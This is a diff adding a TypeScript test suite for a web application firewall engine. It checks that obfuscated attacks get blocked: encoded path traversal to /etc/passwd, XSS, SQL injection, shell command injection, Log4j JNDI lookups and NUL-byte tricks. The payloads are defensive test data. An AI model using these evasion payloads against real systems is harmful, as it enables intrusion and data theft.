@@ -1,0 +1,99 @@
+import t from 'tap'
+import type { Test } from 'tap'
+import { RuleSet } from './engine.ts'
+import { BROWSER, explain, families, inBody, request, ruleSet } from './test-helpers.ts'
+
+/**
+ * The same attacks, disguised. Each case is sent as the raw query string a
+ * client could put on the wire (no further encoding by the test), so the
+ * disguise is exactly what the engine receives.
+ */
+
+const pl1 = ruleSet()
+
+function blocked (t: Test, rules: RuleSet, rawQuery: string, family: string): void {
+  const r = request(rules, { query: rawQuery })
+  t.ok(r.score >= 5 && families(r).includes(family), `${rawQuery} → ${explain(r)}`)
+}
+
+t.test('double and triple percent-encoding', async (t) => {
+  blocked(t, pl1, 'q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 'xss')
+  blocked(t, pl1, 'file=%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'lfi')
+  blocked(t, pl1, 'id=1%2527%2520or%25201%253D1--', 'sqli')
+  blocked(t, pl1, 'q=%25253Cscript%25253E', 'xss')
+  const r = request(pl1, { query: 'next=%252Fhome' })
+  t.ok(r.score < 5, 'a double-encoded slash alone is only a warning')
+})
+
+t.test('overlong UTF-8 and %u encodings', async (t) => {
+  blocked(t, pl1, 'f=..%c0%af..%c0%afetc%c0%afpasswd', 'lfi')
+  blocked(t, pl1, 'q=%u003Cscript%u003Ealert(1)', 'xss')
+  blocked(t, pl1, 'f=..%e0%80%af..%e0%80%afboot.ini', 'lfi')
+  const r = request(pl1, { query: 'f=%c0%ae' })
+  t.ok(r.matches.some((m) => m.id === 1002), 'an overlong form alone is a critical protocol anomaly')
+})
+
+t.test('HTML entities, named, decimal and hex, with and without semicolons', async (t) => {
+  blocked(t, pl1, `q=${encodeURIComponent('&lt;script&gt;alert(1)&lt;/script&gt;')}`, 'xss')
+  blocked(t, pl1, `q=${encodeURIComponent('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">')}`, 'xss')
+  blocked(t, pl1, `q=${encodeURIComponent('<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">')}`, 'xss')
+  blocked(t, pl1, `q=${encodeURIComponent('<a href="java&Tab;script&colon;alert(1)">')}`, 'xss')
+  blocked(t, pl1, `q=${encodeURIComponent('<a href="jav&#x0A;ascript:alert(1)">')}`, 'xss')
+  blocked(t, pl1, `q=${encodeURIComponent('&#0000039; or 1=1--')}`, 'sqli')
+})
+
+t.test('SQL comments, whitespace and case', async (t) => {
+  blocked(t, pl1, `id=${encodeURIComponent('1/**/UnIoN/**/SeLeCt/**/1,2')}`, 'sqli')
+  blocked(t, pl1, `id=${encodeURIComponent('1 UN/**/ION SEL/**/ECT 1,2')}`, 'sqli')
+  blocked(t, pl1, `id=${encodeURIComponent('1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2')}`, 'sqli')
+  blocked(t, pl1, `id=${encodeURIComponent('1\tunion\nselect\u000b1,2')}`, 'sqli')
+  blocked(t, pl1, `id=${encodeURIComponent("1'/**/or/**/'1'='1")}`, 'sqli')
+  blocked(t, pl1, `id=${encodeURIComponent('1 union -- x\nselect 1,2')}`, 'sqli')
+  blocked(t, pl1, `id=${encodeURIComponent('1 union #x\nselect 1,2')}`, 'sqli')
+  blocked(t, pl1, 'id=1+UNION+SELECT+1,2', 'sqli')
+  blocked(t, pl1, `id=${encodeURIComponent("1' Or 1=1#")}`, 'sqli')
+})
+
+t.test('Unicode: fullwidth and compatibility characters', async (t) => {
+  blocked(t, pl1, `q=${encodeURIComponent('\uff1cscript\uff1ealert(1)\uff1c/script\uff1e')}`, 'xss')
+  blocked(t, pl1, `f=${encodeURIComponent('\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd')}`, 'lfi')
+  blocked(t, pl1, `id=${encodeURIComponent('1\u2019 or 1=1--')}`.replace('%E2%80%99', '%27'), 'sqli')
+  blocked(t, pl1, `q=${encodeURIComponent('{{７*７}}')}`, 'code')
+})
+
+t.test('NUL bytes', async (t) => {
+  const r = request(pl1, { query: 'f=shell.php%00.jpg' })
+  t.ok(r.matches.some((m) => m.id === 1001), explain(r))
+  blocked(t, pl1, 'q=%3Cscr%00ipt%3Ealert(1)', 'xss')
+  blocked(t, pl1, 'id=1%27%20or%00%201=1--', 'sqli')
+})
+
+t.test('JavaScript escapes', async (t) => {
+  blocked(t, pl1, `q=${encodeURIComponent('\\u003cscript\\u003ealert(1)')}`, 'xss')
+  blocked(t, pl1, `q=${encodeURIComponent('\\x3cimg src=x onerror=alert(1)\\x3e')}`, 'xss')
+  blocked(t, pl1, `q=${encodeURIComponent('";\\u0061lert(document.cookie)//')}`, 'xss')
+})
+
+t.test('shell quoting, escapes and variables', async (t) => {
+  blocked(t, pl1, `h=${encodeURIComponent("x;c'a't /e't'c/pa's's'wd")}`, 'rce')
+  blocked(t, pl1, `h=${encodeURIComponent('x;c\\at /etc/pa\\sswd')}`, 'rce')
+  blocked(t, pl1, `h=${encodeURIComponent('x;w$@hoami')}`, 'rce')
+  blocked(t, pl1, `h=${encodeURIComponent('x|who""ami')}`, 'rce')
+  blocked(t, pl1, `h=${encodeURIComponent('x;cat$IFS$9/etc/passwd')}`, 'rce')
+  blocked(t, pl1, 'h=127.0.0.1%0aid%0a', 'rce')
+  blocked(t, pl1, `h=${encodeURIComponent('x&&w^h^o^a^m^i')}`, 'rce')
+})
+
+t.test('Log4j lookup obfuscation', async (t) => {
+  for (const p of ['${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x/a}', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}', '${jNdI:LdAp://x/a}']) {
+    const r = request(pl1, { headers: [...BROWSER, ['x-forwarded-for', p]] })
+    t.ok(r.score >= 5 && families(r).includes('code'), `${p} → ${explain(r)}`)
+  }
+})
+
+t.test('form bodies: + as space, encoded names', async (t) => {
+  const r = inBody(pl1, 'application/x-www-form-urlencoded', 'user=admin%27+or+%271%27%3D%271')
+  t.ok(r.score >= 5 && families(r).includes('sqli'), explain(r))
+  const json = inBody(pl1, 'application/json', '{"q": "\\u003cscript\\u003ealert(1)"}')
+  t.ok(json.score >= 5, `JSON escapes are decoded by the parser: ${explain(json)}`)
+})
